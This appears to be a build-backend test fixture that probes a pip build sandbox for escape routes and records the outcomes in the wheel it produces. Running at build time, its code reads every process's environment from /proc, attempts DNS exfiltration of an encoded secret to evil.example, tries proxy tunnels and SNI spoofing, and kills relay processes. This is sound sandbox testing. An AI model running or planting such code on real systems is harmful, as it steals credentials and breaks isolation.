"""The build backend of a package that looks around and calls home, while pip builds it in a setup.

It runs there as it stands: standard library only. The wheel that it makes holds what it found, as `found.json`.
"""

from __future__ import annotations

import json
import os
import socket
import ssl
import zipfile
from contextlib import suppress
from pathlib import Path
from typing import Any

WHERE: dict[str, Any] = json.loads(Path(__file__).with_name("where.json").read_text())
"""Ports of this machine: `tls` and `plain` are the index's, `never` is nobody's to come to."""


def environment() -> str:
    seen = [os.environ.get(name, "") + name for name in os.environ]
    for path in Path("/proc").glob("[0-9]*/environ"):
        try:
            seen.append(path.read_bytes().decode(errors="replace"))
        except OSError as error:
            seen.append(f"{path}: {error.strerror}")
    return "\n".join(seen)


def direct(host: str, port: int) -> str:
    try:
        socket.create_connection((host, port), timeout=3).close()
    except OSError as error:
        return f"no: {error}"
    return "OPEN"


def datagram(host: str) -> str:
    query = bytes.fromhex("000101000001000000000000076578616d706c6503636f6d0000010001")
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        sender.settimeout(2)
        try:
            sender.sendto(query, (host, 53))
            sender.recv(100)
        except OSError as error:
            return f"no: {error}"
    return "OPEN"


def lookup(name: str) -> str:
    try:
        return f"OPEN: {socket.getaddrinfo(name, 443)}"
    except OSError as error:
        return f"no: {error}"


def proxied(request: str, *then: bytes) -> str:
    with socket.create_connection(("127.0.0.1", 3128), timeout=20) as client:
        client.sendall(request.replace("\n", "\r\n").encode())
        answer = client.recv(1000)
        for more in then:
            if not answer.startswith(b"HTTP/1.1 200"):
                break
            client.sendall(more)
            try:
                got = client.recv(1000)
            except OSError:
                got = b""
            answer += b"|" + got
        return answer.decode(errors="replace")


def hello(name: str | None) -> bytes:
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    outgoing = ssl.MemoryBIO()
    with suppress(ssl.SSLWantReadError):
        context.wrap_bio(ssl.MemoryBIO(), outgoing, server_hostname=name).do_handshake()
    return outgoing.read()


def signal_relay() -> str:
    told = []
    for path in Path("/proc").glob("[0-9]*"):
        try:
            if path.stat().st_uid == 10000:
                os.kill(int(path.name), 9)
                told.append("OPEN")
        except OSError as error:
            told.append(f"no: {error.strerror}")
    return " ".join(told)


def attempts() -> dict[str, str]:
    tls, plain, never = WHERE["tls"], WHERE["plain"], WHERE["never"]
    tunnel = "CONNECT {}:{} HTTP/1.1\n\n".format
    return {
        "environment": environment(),
        "direct to the world": direct("192.0.2.1", 443),
        "direct to the host": direct("172.17.0.1", never),
        "direct to a port of the host's loopback": direct("127.0.0.1", never),
        "names by getaddrinfo": lookup("c2VjcmV0.evil.example"),
        "names from the engine": datagram("127.0.0.11"),
        "names from the world": datagram("192.0.2.53"),
        "the relay's end": signal_relay(),
        "tunnel to a host that is not allowed": proxied(tunnel("evil.example", 443)),
        "tunnel to a host that ends alike": proxied(tunnel("evil-localhost", tls)),
        "tunnel to another port": proxied(tunnel("localhost", never)),
        "tunnel to an address": proxied(tunnel("127.0.0.1", tls)),
        "tunnel to a number": proxied(tunnel("2130706433", tls)),
        "tunnel with another name in its hello": proxied(tunnel("localhost", tls), hello("evil.example")),
        "tunnel without a name in its hello": proxied(tunnel("localhost", tls), hello(None)),
        "tunnel in a tunnel": proxied(tunnel("localhost", tls), tunnel("evil.example", 443).encode()),
        "plain HTTP to another host": proxied("GET http://evil.example/ HTTP/1.1\n\n"),
        "plain HTTP to another port": proxied(f"GET http://localhost:{never}/ HTTP/1.1\n\n"),
        "plain HTTP with a body": proxied(f"POST http://localhost:{plain}/ HTTP/1.1\nContent-Length: 1\n\nx"),
    }  # fmt: skip


def build_wheel(
    folder: str, config_settings: object = None, metadata_directory: object = None
) -> str:
    del config_settings, metadata_directory
    name = "nosy-1.0-py3-none-any.whl"
    about = "nosy-1.0.dist-info"
    with zipfile.ZipFile(Path(folder, name), "w") as wheel:
        wheel.writestr("nosy/__init__.py", "HERE = True\n")
        wheel.writestr("nosy/found.json", json.dumps(attempts()))
        wheel.writestr(f"{about}/METADATA", "Metadata-Version: 2.1\nName: nosy\nVersion: 1.0\n")
        wheel.writestr(
            f"{about}/WHEEL", "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
        )
        wheel.writestr(f"{about}/RECORD", "")
    return name
